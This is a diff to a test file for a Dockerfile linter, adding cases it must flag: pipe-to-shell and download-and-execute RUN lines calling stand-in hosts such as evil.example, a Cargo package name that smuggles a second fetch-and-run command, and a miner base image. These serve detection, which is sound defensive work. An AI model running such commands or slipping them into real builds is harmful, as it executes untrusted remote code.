@@ -24,6 +24,15 @@ describe(lintDockerfile.name, () => {
     ['base-image', GOOD.replace('node:22-slim', 'evil/miner:1.0')],
     ['pipe-to-shell', GOOD.replace('WORKDIR /app', 'RUN curl -fsSL https://x.example/install | sh')],
     ['pipe-to-shell', GOOD.replace('WORKDIR /app', 'RUN wget -qO- https://x.example/i | sudo bash')],
+    ['pipe-to-shell', GOOD.replace('WORKDIR /app', 'RUN curl -s https://x.example/i | python3')],
+    ['pipe-to-shell', GOOD.replace('WORKDIR /app', 'RUN ["sh", "-c", "curl -s https://x.example/i | perl"]')],
+    ['pipe-to-shell', GOOD.replace('CMD ["node", "server.js"]', 'CMD ["sh", "-c", "curl -s https://x.example/i | node"]')],
+    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN curl -o /tmp/x https://evil.example/x && sh /tmp/x')],
+    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN wget -O /tmp/x https://x.example/x\nRUN chmod +x /tmp/x')],
+    ['download-exec', GOOD.replace('WORKDIR /app', 'ADD https://x.example/tool /usr/local/bin/tool\nRUN /usr/local/bin/tool install')],
+    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN bash <(curl -fsSL https://x.example/i)')],
+    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN sh -c "$(curl -fsSL https://x.example/i)"')],
+    ['download-exec', GOOD.replace('WORKDIR /app', 'RUN eval "$(wget -qO- https://x.example/i)"')],
     ['secret', GOOD.replace('WORKDIR /app', 'ARG GITHUB_TOKEN')],
     ['secret', GOOD.replace('WORKDIR /app', 'ENV STRIPE_SECRET_KEY=sk_live_abc')],
     ['secret', GOOD.replace('WORKDIR /app', 'ENV HARMLESS=ghp_abcdefghijklmnopqrstuvwxyz0123456789')],
@@ -42,6 +51,19 @@ describe(lintDockerfile.name, () => {
   it("only warns about a repository's own Dockerfile", () => {
     const findings = lintDockerfile(GOOD.replace('node:22-slim', 'node:latest'), { port: 8080, strict: false });
     expect(findings.map((f) => f.severity)).toEqual(['warning']);
+  });
+
+  it('refuses what a Cargo package name pasted into RUN lines used to make of a Dockerfile', () => {
+    const name = 'app && curl -o /tmp/x https://evil.example/x && sh /tmp/x';
+    const injected = GOOD.replace('COPY . .', `COPY . .\nRUN cargo build --release --bin ${name} && mkdir -p bin && cp target/release/${name} bin/`);
+    expect(lintDockerfile(injected, { port: 8080, strict: true })).toContainEqual(
+      expect.objectContaining({ rule: 'download-exec', severity: 'error', line: 4, message: expect.stringContaining('runs sh /tmp/x') }),
+    );
+  });
+
+  it('leaves downloads that nothing runs alone', () => {
+    const keyring = GOOD.replace('WORKDIR /app', 'RUN curl -fsSL https://x.example/key.gpg -o /usr/share/keyrings/x.gpg && apt-get update');
+    expect(rules(keyring)).toEqual([]);
   });
 
   it('refuses a README-injected instruction even when the rest is fine', () => {
